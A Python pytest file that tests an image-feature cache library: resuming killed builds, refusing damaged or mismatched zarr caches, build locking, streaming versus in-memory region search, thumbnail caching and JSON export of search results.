"""Cache format v1: write, resume, open, refuse; streaming equals resident."""

import json
import os
import shutil
import threading
from dataclasses import replace
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import torch
import zarr
from cachehelpers import synthetic_spec

import vfs.kernel
from vfs.cache import AlreadyComplete, BuildLock, CacheError, CacheWriter, list_caches, open_cache
from vfs.search import search_regions

SPEC = synthetic_spec((4, 5), 8, label_col="label", domain_col="dom")


def candidates(n):
    return pd.DataFrame(
        {
            "path": [f"img/{i}.png" for i in range(n)],
            "label": [("cat|dog" if i % 3 else None) for i in range(n)],
            "dom": [f"d{i % 2}" for i in range(n)],
            "age": np.arange(n) * 1.5,
            "sick": np.arange(n) % 2 == 0,
        }
    )


def fill(writer, items, rng_seed=0, bad=()):
    rng = np.random.default_rng(rng_seed)
    feats = np.maximum(rng.standard_normal((100, 4, 5, 8)), 0).astype(np.float16)
    for i in items:
        if i in bad:
            writer.skip(i, "truncated image")
        else:
            writer.add(i, feats[i], np.full((32, 32, 3), i, np.uint8))
    return feats


def build(path, n, bad=(), chunk_bytes=None, monkeypatch=None):
    w = CacheWriter.open(path, SPEC, candidates(n), 32)
    feats = fill(w, range(n), bad=bad)
    w.finish(candidates(n))
    return feats


def assert_built_alike(clean, resumed):
    """A resumed build's rows and report are an uninterrupted one's, bit for bit."""
    a, b = open_cache(clean), open_cache(resumed)
    for name in ("features", "sqnorm", "thumbs", "source_index"):
        np.testing.assert_array_equal(a.group[name][:], b.group[name][:])
    assert a.report == b.report


@pytest.fixture(autouse=True)
def small_chunks(monkeypatch):
    monkeypatch.setattr("vfs.cache.writer.CHUNK_BYTES", 4 * 5 * 8 * 2 * 7)  # 7 images a chunk


def test_round_trip(tmp_path):
    feats = build(tmp_path / "c.zarr", 30, bad={4, 17})
    c = open_cache(tmp_path / "c.zarr")
    assert c.complete and c.n == 28 and c.shape == (28, 4, 5, 8)
    keep = [i for i in range(30) if i not in (4, 17)]
    np.testing.assert_array_equal(c.features[:], feats[keep])
    np.testing.assert_allclose(c.sqnorm[:], np.square(feats[keep].astype(np.float32)).sum(-1))
    assert list(c.manifest["path"]) == [f"img/{i}.png" for i in keep]
    assert c.manifest["label"].iloc[0] is None and c.manifest["label"].iloc[1] == "cat|dog"
    assert c.thumb(5)[0, 0, 0] == keep[5]
    assert c.manifest["age"].dtype.kind == "f" and c.manifest["age"].iloc[2] == 3.0
    assert c.manifest["sick"].tolist()[:3] == [True, False, True]
    assert [s["path"] for s in c.report["skipped"]] == ["img/4.png", "img/17.png"]
    assert c.report["skipped"][0]["reason"] == "truncated image"
    assert list(c.domains[:2]) == ["d0", "d1"]
    assert "candidates" not in c.group
    json.dumps(c.info())


def test_killed_build_resumes_to_identical_cache(tmp_path):
    build(tmp_path / "clean.zarr", 30, bad={9})
    # a build that dies after item 20: the pending partial chunk is lost, progress is not
    w = CacheWriter.open(tmp_path / "killed.zarr", SPEC, candidates(30), 32)
    fill(w, range(21), bad={9})
    assert w.next_item < 21 and w.rows % 7 == 0
    resumed = CacheWriter.open(tmp_path / "killed.zarr", SPEC, candidates(30), 32)
    assert (resumed.rows, resumed.next_item) == (w.rows, w.next_item)
    fill(resumed, range(resumed.next_item, 30), bad={9})
    resumed.finish(candidates(30))
    a, b = open_cache(tmp_path / "clean.zarr"), open_cache(tmp_path / "killed.zarr")
    for name in ("features", "sqnorm", "thumbs"):
        np.testing.assert_array_equal(a.group[name][:], b.group[name][:])
    pd.testing.assert_frame_equal(a.manifest, b.manifest)
    assert a.report == b.report
    assert a.nonnegative and b.nonnegative


@pytest.mark.parametrize("left", ["renamed", "half deleted in place", "a chunk of its paths gone"])
def test_a_build_killed_while_finish_deletes_its_candidates_finishes_on_rerun(tmp_path, monkeypatch, left):
    """`finish` deletes the candidates table after writing the manifest. A kill there left it
    half deleted in place (zarr removes a group file by file; caches finished before the rename),
    and every rerun failed reading it (KeyError): now it finishes, as one killed anywhere else,
    and still refuses other images than it stored."""
    import shutil

    build(tmp_path / "clean.zarr", 12, bad={5})
    out = tmp_path / "c.zarr"
    w = CacheWriter.open(out, SPEC, candidates(12), 32)
    fill(w, range(12), bad={5})
    if left == "renamed":

        def killed(path, *args, **kwargs):  # the table renamed, then the kill as it is deleted
            if os.path.exists(path):
                raise KeyboardInterrupt

        monkeypatch.setattr("vfs.cache.writer.shutil.rmtree", killed)
        with pytest.raises(KeyboardInterrupt):
            w.finish(candidates(12))
        monkeypatch.undo()
        monkeypatch.setattr("vfs.cache.writer.CHUNK_BYTES", 4 * 5 * 8 * 2 * 7)
        assert (out / "candidates.deleted").is_dir() and not (out / "candidates").exists()
    else:
        from vfs.cache.format import write_table

        w.flush()  # as `finish` does first
        write_table(w.group, "manifest", candidates(12).drop(index=5).reset_index(drop=True))
        if left == "half deleted in place":
            shutil.rmtree(out / "candidates" / "label")  # zarr.json and the other columns still there
        else:  # zarr reads the column's missing chunk as missing values
            shutil.rmtree(out / "candidates" / "path" / "c")
    assert not open_cache(out, allow_partial=True).complete
    others = candidates(12).assign(path=[f"other/{i}.png" for i in range(12)])
    with pytest.raises(CacheError, match="started on other images than these"):
        CacheWriter.open(out, SPEC, others, 32)
    for n in (11, 13):  # as many images as it handled: a smaller set made finish fail, a larger one grew
        with pytest.raises(CacheError, match=f"started on a dataset of 12 images, this one has {n}"):
            CacheWriter.open(out, SPEC, candidates(n), 32)
    resumed = CacheWriter.open(out, SPEC, candidates(12), 32)
    assert resumed.next_item == 12
    resumed.finish(candidates(12))
    assert sorted(p.name for p in out.iterdir() if p.name.startswith("candidates")) == []
    assert_built_alike(tmp_path / "clean.zarr", out)
    pd.testing.assert_frame_equal(open_cache(out).manifest, open_cache(tmp_path / "clean.zarr").manifest)


def test_a_slow_build_stores_its_partial_chunk_before_a_kill(tmp_path):
    """Past `save_every` seconds without a store, the images handed over are stored: a kill then
    loses none of them, and the resumed cache equals an uninterrupted one."""
    build(tmp_path / "clean.zarr", 30, bad={9})
    w = CacheWriter.open(tmp_path / "killed.zarr", SPEC, candidates(30), 32)
    w.save_every = 0.0
    fill(w, range(11), bad={9})
    assert (w.rows, w.next_item) == (10, 11)  # 10 stored, item 9 skipped: one chunk and 3 images
    resumed = CacheWriter.open(tmp_path / "killed.zarr", SPEC, candidates(30), 32)
    assert (resumed.rows, resumed.next_item, resumed.skipped) == (10, 11, w.skipped)
    fill(resumed, range(11, 30), bad={9})
    resumed.finish(candidates(30))
    assert_built_alike(tmp_path / "clean.zarr", tmp_path / "killed.zarr")


def test_nonnegative_is_recorded_across_a_resume(tmp_path):
    """One negative feature anywhere, even in a chunk stored before a kill, clears the flag."""
    w = CacheWriter.open(tmp_path / "c.zarr", SPEC, candidates(30), 32)
    feats = fill(w, range(8))
    w.add(8, -feats[8] - 0.5, np.zeros((32, 32, 3), np.uint8))
    fill(w, range(9, 15))
    assert w.rows == 14 and not w.nonnegative
    resumed = CacheWriter.open(tmp_path / "c.zarr", SPEC, candidates(30), 32)
    assert not resumed.nonnegative and not open_cache(tmp_path / "c.zarr", allow_partial=True).nonnegative
    fill(resumed, range(resumed.next_item, 30))
    resumed.finish(candidates(30))
    assert not open_cache(tmp_path / "c.zarr").nonnegative
    build(tmp_path / "ok.zarr", 30)
    assert open_cache(tmp_path / "ok.zarr").nonnegative


@pytest.mark.parametrize("now", [12, 6])
def test_a_complete_cache_refuses_a_dataset_of_another_size_in_words_that_fit(tmp_path, now):
    """Fewer images were "the smaller set" — a subset, where they may be other images (review)."""
    build(tmp_path / "c.zarr", 10)
    with pytest.raises(
        CacheError,
        match=f"complete, built on a dataset of 10 images; this one has {now}: build it into another",
    ):
        CacheWriter.open(tmp_path / "c.zarr", SPEC, candidates(now), 32)


def test_a_zarr_group_of_another_kind_or_version_is_no_cache_to_resume(tmp_path):
    """A foreign zarr group was "not a VFS cache of format version 1", as if it were one of another."""
    import zarr

    zarr.open_group(tmp_path / "other.zarr", mode="w").attrs["made_by"] = "someone else"
    with pytest.raises(
        CacheError, match="other.zarr exists and is no VFS cache \\(a zarr group of another kind"
    ):
        CacheWriter.open(tmp_path / "other.zarr", SPEC, candidates(4), 32)
    build(tmp_path / "c.zarr", 4)
    group = zarr.open_group(tmp_path / "c.zarr", mode="r+")
    group.attrs["format_version"] = 99
    with pytest.raises(
        CacheError, match="c.zarr is a VFS cache of format version 99, this VFS writes versions 1, 2"
    ):
        CacheWriter.open(tmp_path / "c.zarr", SPEC, candidates(4), 32)


def test_resume_refuses_another_spec(tmp_path):
    w = CacheWriter.open(tmp_path / "c.zarr", SPEC, candidates(10), 32)
    fill(w, range(8))
    other = replace(SPEC, layer="blocks.6")
    with pytest.raises(CacheError, match="layer: 'blocks.5' ≠ 'blocks.6'"):
        CacheWriter.open(tmp_path / "c.zarr", other, candidates(10), 32)
    # the dataset's setting that differs, by name; where it is may differ (a moved dataset), so its
    # place is no reason and is not shown (it showed the recorded source on both sides)
    moved = replace(SPEC, data=replace(SPEC.data, source="/elsewhere/manifest.csv", domain_col=None))
    with pytest.raises(CacheError) as refused:
        CacheWriter.open(tmp_path / "c.zarr", moved, candidates(10), 32)
    reason = str(refused.value).split("another setting (")[1]
    assert reason.startswith("data.domain_col: 'dom' ≠ None)"), reason
    squashed = replace(SPEC, preprocess=replace(SPEC.preprocess, crop="squash"))  # "center" is not stored
    assert SPEC.mismatch(squashed) == "preprocess.crop: 'center' ≠ 'squash'"


@pytest.mark.parametrize(
    "damage,message",
    [
        (lambda g: g.attrs.update({"format_version": 99}), "format version 99"),
        (lambda g: g.attrs.update({"format": "other"}), "not a VFS feature cache"),
        (lambda g: g.__delitem__("sqnorm"), "its array .sqnorm. is missing"),
        (
            lambda g: g.attrs.update({"format_version": "1"}),
            "has format version '1'; this VFS reads versions 1, 2",
        ),
        (lambda g: g.attrs.update({"n": 500}), "its attributes count 500 images, its arrays hold 10"),
        # lowered, it hid images without a word (failure-injection review)
        (lambda g: g.attrs.update({"n": 7}), "its attributes count 7 images, its arrays hold 10"),
        (
            lambda g: g.attrs.update({"n": -1}),
            r"its attributes are damaged \(ValueError: it counts -1 images",
        ),
        (lambda g: g["sqnorm"].resize((9, 4, 5)), "its attributes count 10 images, its arrays hold 9"),
        (lambda g: g["sqnorm"].resize((10, 4, 4)), r"do not match the spec \(images, 4, 5, 8\)"),
        (
            lambda g: (g.store_path.store.root / "features" / "zarr.json").write_text(""),
            "the metadata of its 'features' array cannot be read",
        ),
    ],
)
def test_open_refuses_damaged_caches(tmp_path, damage, message):
    build(tmp_path / "c.zarr", 10)
    damage(zarr.open_group(str(tmp_path / "c.zarr"), mode="r+"))
    with pytest.raises(CacheError, match=message):
        open_cache(tmp_path / "c.zarr")


def test_a_finished_cache_whose_arrays_disagree_with_its_n_is_refused_and_repaired(tmp_path):
    """A complete cache whose arrays hold more images than its n (an n edited lower, or a repair of
    an older VFS killed after its first step) hid images without a word; it is refused, and the
    build's rerun finishes it again (failure-injection and diff reviews)."""
    build(tmp_path / "clean.zarr", 10)
    build(tmp_path / "c.zarr", 10)
    zarr.open_group(str(tmp_path / "c.zarr"), mode="r+")["sqnorm"].resize((12, 4, 5))
    with pytest.raises(CacheError, match="count 10 images, its arrays hold 12: rerun its build to repair it"):
        open_cache(tmp_path / "c.zarr")
    resumed = CacheWriter.open(tmp_path / "c.zarr", SPEC, candidates(10), 32)
    resumed.finish(candidates(10))
    assert_built_alike(tmp_path / "clean.zarr", tmp_path / "c.zarr")


def test_open_missing_path(tmp_path):
    with pytest.raises(CacheError, match="no cache"):
        open_cache(tmp_path / "nothing.zarr")


def test_list_caches_reports_partial_and_broken(tmp_path):
    build(tmp_path / "done.zarr", 10)
    w = CacheWriter.open(tmp_path / "partial.zarr", SPEC, candidates(10), 32)
    fill(w, range(8))
    (tmp_path / "junk.zarr").mkdir()
    rows = {r["name"]: r for r in list_caches(tmp_path)}
    assert rows["done"]["complete"] and rows["done"]["n"] == 10 and rows["done"]["size_bytes"] > 0
    assert not rows["partial"]["complete"]
    assert rows["partial"]["n"] == rows["partial"]["stored"] == 7  # one chunk of 7 stored: not "0 images"
    assert rows["junk"]["error"]


def test_list_caches_counts_nothing_for_a_file_a_running_build_renamed_away(tmp_path, monkeypatch):
    """The Build page lists caches while a build writes one (temporary files renamed into place):
    a file gone between the listing and its size raised FileNotFoundError."""
    build(tmp_path / "c.zarr", 10)
    whole = list_caches(tmp_path)[0]["size_bytes"]
    walk = os.walk

    def listing_a_file_renamed_since(folder):  # a temporary file, renamed before its size is taken
        for parent, folders, files in walk(folder):
            yield parent, folders, [*files, "features.tmp"]

    monkeypatch.setattr("vfs.cache.reader.os.walk", listing_a_file_renamed_since)
    assert list_caches(tmp_path)[0]["size_bytes"] == whole


def test_build_lock_refuses_a_second_build_but_not_a_dead_one(tmp_path):
    out = tmp_path / "c.zarr"
    with BuildLock(out):
        with pytest.raises(CacheError, match="another build"):
            BuildLock(out).__enter__()
    # a lock left by a dead process is taken over
    Path = type(tmp_path)
    Path(f"{out}.lock").write_text(json.dumps({"pid": 2**22 + 12345, "host": os.uname().nodename}))
    with BuildLock(out):
        pass
    assert not Path(f"{out}.lock").exists()


@pytest.mark.parametrize("method", ["cells", "band", "whole", "whole_cells", "pairs"])
def test_streaming_equals_resident(tmp_path, force_form, method):
    build(tmp_path / "c.zarr", 40)
    mask = np.zeros((4, 5), np.float32)
    mask[1:3, 1:4] = [[0.3, 1, 1], [1, 0.5, 0]]
    if method.startswith("whole"):  # one placement: the region spans the grid
        mask[0, 0] = mask[3, 4] = 0.2
    # every form, streamed in pieces
    if method == "pairs" and vfs.kernel.library() is None:
        pytest.skip("the pairs kernel is not built here")
    force_form(method)
    streamed = search_regions(open_cache(tmp_path / "c.zarr"), 3, mask, k=8, device="cpu", memory_budget=2000)
    resident = search_regions(open_cache(tmp_path / "c.zarr"), 3, mask, k=8, device="cpu")
    np.testing.assert_array_equal(streamed.scores, resident.scores)
    pd.testing.assert_frame_equal(streamed.top, resident.top)
    assert list(resident.top.columns) == [
        "rank",
        "index",
        "score",
        "grid_box",
        "path",
        "pixel_box",
        "label",
        "domain",
    ]
    assert resident.top["pixel_box"].iloc[0] == tuple(
        round(v * 32 / d) for v, d in zip(resident.top["grid_box"].iloc[0], (4, 5, 4, 5))
    )
    # per-domain through the cache's domain column
    one_each = search_regions(open_cache(tmp_path / "c.zarr"), 3, mask, k=8, per_domain=1, device="cpu")
    assert sorted(one_each.top["domain"]) == ["d0", "d1"]


def test_a_copy_that_does_not_fit_leaves_the_cache_resident_as_stored(tmp_path):
    """fp32 operands take twice the memory: under a budget fp16 fits and fp32 does not, the cache
    is held in fp16 (not streamed); where both fit, another type's copy is held beside the fp16."""
    import torch

    build(tmp_path / "c.zarr", 40)
    cache, cpu = open_cache(tmp_path / "c.zarr"), torch.device("cpu")
    budget = int(cache.nbytes * 1.5 * 1.1) + 1  # headroom for fp16, not for fp32
    assert cache.fits(cpu, budget) and not cache.fits(cpu, budget, torch.float32)
    chunks = list(cache.chunks(cpu, budget, torch.float32))
    assert [x.dtype for _, x, _ in chunks] == [torch.float16] and cache.resident_on(cpu) is not None
    held = open_cache(tmp_path / "c.zarr")  # where both fit, a bf16 copy is held beside the fp16
    chunks = list(held.chunks(cpu, None, torch.bfloat16))
    assert [x.dtype for _, x, _ in chunks] == [torch.bfloat16]
    assert torch.equal(chunks[0][1], held.resident_on(cpu).to(torch.bfloat16))  # rows gathered in memory


def test_thumbnails_come_back_in_the_order_asked_from_storage_and_from_memory(tmp_path, monkeypatch):
    monkeypatch.setattr("vfs.cache.reader.RECENT_THUMBS", 5)  # evictions happen within the test
    build(tmp_path / "c.zarr", 30)
    c = open_cache(tmp_path / "c.zarr")
    stored = c.thumbs[:]
    for ask in ([3, 1, 3], [1, 2, 3, 4, 5, 6, 7], [29, 0], [0, 29, 3], [], [12]):
        got = c.thumbs_at(ask)
        assert got.shape == (len(ask), *stored.shape[1:])
        np.testing.assert_array_equal(got, stored[ask])
    assert len(c._recent_thumbs) <= 5
    np.testing.assert_array_equal(c.thumb(7), stored[7])
    with pytest.raises(IndexError):
        c.thumbs_at([30])


def test_thumbnails_evicted_by_another_session_during_a_read_still_come_back(tmp_path, monkeypatch):
    """App sessions share one cache: while one reads the thumbnails it lacks, another may evict
    those it had found held (the LRU full, as it is in a running app) — a KeyError before."""
    monkeypatch.setattr("vfs.cache.reader.RECENT_THUMBS", 2)
    build(tmp_path / "c.zarr", 10)
    c = open_cache(tmp_path / "c.zarr")
    stored = c.thumbs[:]
    c.thumbs_at([0])
    gather, reading, evicted = c._thumbs.gather, threading.Event(), threading.Event()

    def paused(rows):
        if threading.current_thread().name == "a":
            reading.set()
            assert evicted.wait(10)
        return gather(rows)

    monkeypatch.setattr(c._thumbs, "gather", paused)
    got = {}
    a = threading.Thread(target=lambda: got.update(a=c.thumbs_at([0, 1])), name="a")
    a.start()
    assert reading.wait(10)
    c.thumbs_at([2, 3, 4])  # evicts 0, which a found held
    evicted.set()
    a.join(10)
    np.testing.assert_array_equal(got["a"], stored[[0, 1]])


def test_thumbnails_do_not_wait_for_the_whole_cache_to_load(tmp_path, monkeypatch):
    """The app loads a cache's features while the user picks a query by its thumbnail: the pick
    waited for the whole load (one lock for both)."""
    build(tmp_path / "c.zarr", 10)
    c = open_cache(tmp_path / "c.zarr")
    read, loading, done = c._read_features, threading.Event(), threading.Event()

    def slow(a, b):
        loading.set()
        assert done.wait(10)
        return read(a, b)

    monkeypatch.setattr(c, "_read_features", slow)
    load = threading.Thread(target=c.resident, args=(torch.device("cpu"),))
    load.start()
    assert loading.wait(10)
    try:
        np.testing.assert_array_equal(c.thumbs_at([3, 5]), c.thumbs[[3, 5]])  # while the load waits
    finally:
        done.set()
        load.join(10)
    assert c.resident_on(torch.device("cpu")) is not None


def described(**changes):
    """What `Extractor.describe()` gives for an extractor of SPEC's model and layer, with `changes`."""
    return {
        "spec": SPEC.model,
        "layer": SPEC.layer,
        "input_size": SPEC.input_size,
        "grid": list(SPEC.grid),
        "channels": SPEC.channels,
        "preprocess": SPEC.preprocess.to_dict(),
    } | changes


def test_check_extractor_compares_preprocessing_and_the_spec_only_of_a_loaded_model(tmp_path):
    build(tmp_path / "c.zarr", 10)
    c = open_cache(tmp_path / "c.zarr")
    c.check_extractor(described())
    c.check_extractor(described(spec="module:edited"))  # an object said to be the cache's architecture
    refused = "built with spec 'embedded:efficientnet_lite0', not 'timm:resnet50'.*extractor_from_module"
    with pytest.raises(CacheError, match=refused):
        c.check_extractor(described(spec="timm:resnet50"))
    for changes, message in [
        ({"layer": "blocks.4"}, "built with layer 'blocks.5', not 'blocks.4'.*cache.spec.layer"),
        ({"input_size": 64}, "built with input_size 32, not 64.*cache.spec.input_size"),
        ({"grid": (2, 2)}, r"built with grid \[4, 5\], not \[2, 2\].*not the cache's architecture"),
        ({"channels": 16}, "built with channels 8, not 16.*not the cache's architecture"),
        (
            {"preprocess": replace(SPEC.preprocess, interpolation="bilinear", std=(0.5,) * 3).to_dict()},
            r"built with preprocess interpolation 'bicubic', not 'bilinear'; std \[0.229, 0.224, 0.225\], "
            r"not \[0.5, 0.5, 0.5\].*cache.spec.preprocess",
        ),
        (
            {"preprocess": replace(SPEC.preprocess, resize_size=36).to_dict()},
            "built with preprocess resize_size 32, not 36",
        ),
    ]:
        for spec in (SPEC.model, "module:edited"):
            with pytest.raises(CacheError, match=message):
                c.check_extractor(described(spec=spec, **changes))
    c.check_extractor(described(preprocess=dict(vars(SPEC.preprocess))))  # tuples, not JSON's lists: the same


def test_images_sharing_the_querys_value_and_the_columns_that_repeat(tmp_path, capsys):
    """A subject's other images (a patient's X-rays) left out with the query: by the API, and by
    the CLI's --exclude-same, whose JSON records them as excluded."""
    from vfs.cli import main
    from vfs.stats import repeated_columns

    build(tmp_path / "c.zarr", 12)
    cache = open_cache(tmp_path / "c.zarr")
    assert repeated_columns(cache.manifest) == [
        "dom",
        "sick",
    ]  # not path, age: all distinct; label: one value
    assert cache.images_sharing("dom", 4).tolist() == [0, 2, 6, 8, 10]
    assert cache.images_sharing("label", 3).tolist() == []  # no value: nothing shares it
    assert cache.images_sharing("label", 4).tolist() == [1, 2, 5, 7, 8, 10, 11]
    # one image per value kept (one image per subject), none without a value left out; the one kept
    # is the lowest path hash's, not the manifest's first (a manifest sorted by label kept a patient's
    # normal X-ray, and emptied a finding's group: review)
    import hashlib

    dom, label = cache.manifest["dom"].to_numpy(), cache.manifest["label"]
    paths = cache.manifest["path"].astype(str).to_numpy()
    drawn = [hashlib.blake2b(p.encode(), digest_size=8).digest() for p in paths]
    picked = {d: min((i for i in range(12) if dom[i] == d), key=drawn.__getitem__) for d in set(dom)}
    assert cache.repeats("dom").tolist() == sorted(set(range(12)) - set(picked.values()))
    assert picked != {d: list(dom).index(d) for d in set(dom)}  # not the manifest's first, here
    assert len(cache.repeats("dom")) == 12 - len(set(dom))
    kept = [i for i in range(12) if i not in cache.repeats("label")]
    assert label[kept].dropna().is_unique and set(label[kept].dropna()) == set(label.dropna())
    assert label.isna().any() and label[kept].isna().sum() == label.isna().sum()  # no value: no subject
    # among the images kept: a subject whose picked image is left out counts by another
    among = np.ones(12, bool)
    gone = picked[dom[0]]
    among[gone] = False
    again = min((i for i in range(12) if dom[i] == dom[0] and i != gone), key=drawn.__getitem__)
    assert again not in cache.repeats("dom", among=among) and gone not in cache.repeats("dom", among=among)
    assert len(cache.repeats("dom", among=among)) == 11 - len(set(np.delete(dom, gone)))
    # what a statistic counts: the same, with the images left out
    counted = cache.counted([0, 3], one_per="dom")
    assert not counted[[0, 3]].any() and counted.sum() == len(
        set(dom[[i for i in range(12) if i not in (0, 3)]])
    )
    assert cache.counted().all() and cache.counted([5]).sum() == 11
    # a blank id is no subject: blank images are not one patient's
    import zarr

    from vfs.cache.format import read_table, write_table

    group = zarr.open_group(tmp_path / "c.zarr", mode="r+")
    ids = ["", " ", "p1", "p1", None, "", "p2", "p2", "p2", " ", "p3", ""]
    write_table(group, "manifest", read_table(group, "manifest").assign(pid=ids))
    repeated = open_cache(tmp_path / "c.zarr").repeats("pid").tolist()
    assert len(repeated) == 3 and set(repeated) < {2, 3, 6, 7, 8}  # one of p1's two, two of p2's three
    with pytest.raises(
        CacheError, match="has no column 'patient' \\(columns: path, label, dom, age, sick\\)"
    ):
        cache.images_sharing("patient", 0)
    np.save(tmp_path / "m.npy", np.ones((4, 5), np.float32))
    argv = ["search", str(tmp_path / "c.zarr"), "--query-index", "4", "--mask", str(tmp_path / "m.npy")]
    assert main([*argv, "--k", "12", "--exclude-same", "dom", "--json"]) == 0
    found = json.loads(capsys.readouterr().out)
    assert found["excluded"] == [0, 2, 4, 6, 8, 10] and found["options"]["exclude_same"] == "dom"
    assert sorted(r["index"] for r in found["results"]) == [1, 3, 5, 7, 9, 11]
    assert main([*argv, "--exclude-same", "dom", "--include-query", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["excluded"] == [0, 2, 6, 8, 10]
    # an --image with --exclude-same: tests/test_bad_inputs.py (one of the cache's images, or refused)
    # and the --image query's own options with an index (--trust-model-code was taken without a word)
    for option in (["--model", "embedded:efficientnet_lite0"], ["--trust-model-code"]):
        assert main([*argv, *option]) == 2
        assert f"{option[0]} is for an --image query" in capsys.readouterr().err


def test_cli_label_filter_ranks_only_those_labels_and_the_json_records_the_options(tmp_path, capsys):
    """The Search page's "Only these labels" had no CLI equivalent, and no export recorded k, the per-domain
    limit or the labels: a filtered search could not be repeated from its downloads (search review)."""
    import zarr

    from vfs.cache.format import read_table, write_table
    from vfs.cli import main

    build(tmp_path / "c.zarr", 12)
    group = zarr.open_group(tmp_path / "c.zarr", mode="r+")
    labels = ["a|b", "a", "b", None, "c", "b|c", "a", "c", "b", "a|c", "c", None]
    write_table(group, "manifest", read_table(group, "manifest").assign(label=labels))
    np.save(tmp_path / "m.npy", np.ones((4, 5), np.float32))
    argv = ["search", str(tmp_path / "c.zarr"), "--query-index", "4", "--mask", str(tmp_path / "m.npy")]
    assert main([*argv, "--k", "12", "--label", "a", "--label", "b", "--json"]) == 0
    found = json.loads(capsys.readouterr().out)
    assert sorted(r["index"] for r in found["results"]) == [0, 1, 2, 5, 6, 8, 9]  # any of a, b; not 4 (query)
    assert found["options"] == {"k": 12, "per_domain": None, "labels": ["a", "b"], "exclude_same": None}
    result = search_regions(open_cache(tmp_path / "c.zarr"), 4, np.ones((4, 5)), k=12, exclude=4)
    expected = [i for i in result.top["index"] if labels[i] and {"a", "b"} & set(labels[i].split("|"))]
    assert [r["index"] for r in found["results"]] == expected  # the same ranks as unfiltered, in order
    assert main([*argv, "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["options"] == {
        "k": 10,
        "per_domain": None,
        "labels": None,
        "exclude_same": None,
    }
    assert main([*argv, "--label", "d"]) == 2
    assert "no image of" in (err := capsys.readouterr().err) and "'d' (its labels: (missing), a, b, c)" in err


def test_a_label_column_its_manifest_lacks_is_named_not_a_key_error(tmp_path):
    """A spec edited by hand (or a manifest damaged) naming a column the manifest lacks: a search
    raised KeyError with a trace (helper trial). Its scores need no label: the ranked table, where
    the column is read, names it."""
    build(tmp_path / "c.zarr", 6)
    group = zarr.open_group(tmp_path / "c.zarr", mode="r+")
    spec = dict(group.attrs["spec"])
    group.attrs["spec"] = spec | {"data": spec["data"] | {"label_col": "finding"}}
    result = search_regions(open_cache(tmp_path / "c.zarr"), 0, np.ones((4, 5)))
    assert np.isfinite(result.scores).all()
    with pytest.raises(CacheError, match="has no column 'finding' \\(columns: path, label"):
        result.top


def test_search_json_is_strict_json_with_missing_labels_as_null(tmp_path):
    """`search --json` and the app's download: a blank in a numeric label column is null, not the
    NaN that `json.dumps` writes and strict parsers (JSON.parse, jq) refuse."""
    from vfs.export import search_json

    spec = replace(SPEC, data=replace(SPEC.data, label_col="age"))
    rows = candidates(6).assign(age=[1.5, np.nan, 3.0, np.inf, 6.0, 7.5])
    w = CacheWriter.open(tmp_path / "c.zarr", spec, rows, 32)
    fill(w, range(6))
    w.finish(rows)
    cache = open_cache(tmp_path / "c.zarr")
    doc = search_json(cache, search_regions(cache, 0, np.ones((4, 5)), k=6), {"index": 0})
    parsed = json.loads(json.dumps(doc, allow_nan=False))
    labels = {r["index"]: r["label"] for r in parsed["results"]}
    assert labels == {0: 1.5, 1: None, 2: 3.0, 3: None, 4: 6.0, 5: 7.5}
    assert {r["domain"] for r in parsed["results"]} == {"d0", "d1"}


def test_search_json_carries_the_mask_that_repeats_the_search(tmp_path):
    """The JSON's mask was its box and cell count only: a soft region's weights were not in it, so a
    saved comparison could not be searched again from its files (Compare review)."""
    from vfs.export import search_json
    from vfs.masks import load_mask

    w = CacheWriter.open(tmp_path / "c.zarr", SPEC, candidates(8), 32)
    fill(w, range(8))
    w.finish(candidates(8))
    cache = open_cache(tmp_path / "c.zarr")
    soft = np.zeros(cache.spec.grid)
    soft[1:3, 0:3] = [[0.2, 1.0, 0.4], [0.0, 0.7, 0.1]]
    result = search_regions(cache, 2, soft, k=8)
    doc = json.loads(json.dumps(search_json(cache, result, {"index": 2})))
    np.save(tmp_path / "region.npy", np.array(doc["mask"]["weights"]))
    mask = load_mask(tmp_path / "region.npy", cache.spec.grid)
    np.testing.assert_allclose(mask, soft, rtol=1e-6)  # peak 1 already: the same weights
    again = search_regions(cache, 2, mask, k=8)
    assert list(again.top["index"]) == list(result.top["index"])
    np.testing.assert_array_equal(again.top["score"].to_numpy(), result.top["score"].to_numpy())


def test_whole_numbers_with_gaps_come_back_whole(tmp_path):
    """A label column of whole numbers with one blank read back as floats: groups "2.0", JSON 2.0
    (data review). Stored and read as pandas' nullable integers, in a search's ranked table too
    (object ints and None lost Int64's arithmetic: app review); its JSON's labels are ints and null,
    its tiles' captions the numbers or nothing."""
    from vfs.export import search_json
    from vfs.stats import label_groups

    spec = replace(SPEC, data=replace(SPEC.data, label_col="grade"))
    rows = candidates(6).assign(grade=pd.array([1, 2, None, 1, 3, 2**60], dtype="Int64"))
    w = CacheWriter.open(tmp_path / "c.zarr", spec, rows, 32)
    fill(w, range(6))
    w.finish(rows)
    cache = open_cache(tmp_path / "c.zarr")
    pd.testing.assert_series_equal(cache.manifest["grade"], rows["grade"])  # 2⁶⁰ too: no float between
    assert list(label_groups(cache.manifest, "grade").columns) == [
        "(missing)",
        "1",
        "1152921504606846976",
        "2",
        "3",
    ]
    result = search_regions(cache, 0, np.ones((4, 5)), k=6, exclude=None)
    top = result.top.set_index("index")
    assert top["label"].dtype == "Int64" and top["label"].isna().tolist() == [i == 2 for i in top.index]
    pd.testing.assert_series_equal(
        top["label"].sort_index(), rows["grade"], check_names=False, check_index=False
    )
    doc = search_json(cache, result, {"index": 0})
    labels = {r["index"]: r["label"] for r in json.loads(json.dumps(doc, allow_nan=False))["results"]}
    assert labels == {0: 1, 1: 2, 2: None, 3: 1, 4: 3, 5: 2**60}
    from vfs.render import match_tags

    tags = {r["index"]: match_tags(r) for r in result.top.to_dict("records")}
    assert tags[2] == ["d0"] and tags[5] == ["1152921504606846976", "d1"], tags  # no "<NA>", no "nan"


def test_image_scores_are_the_kept_images_rows_with_their_best_window(tmp_path):
    """The Distributions page's per-image export: the rows its table used (the query left out),
    each with its score and best window; a manifest column named `score` kept as `manifest_score`."""
    from vfs.export import image_scores, search_json

    rows = candidates(12).assign(score=np.arange(12) * 10.0)  # e.g. a severity score in the manifest
    w = CacheWriter.open(tmp_path / "c.zarr", SPEC, rows, 32)
    fill(w, range(12))
    w.finish(rows)
    cache = open_cache(tmp_path / "c.zarr")
    mask = np.zeros((4, 5))
    mask[1:3, 2:4] = 1
    result = search_regions(cache, 3, mask, k=4, exclude=[3, 7, 3])
    assert result.excluded.tolist() == [3, 7]
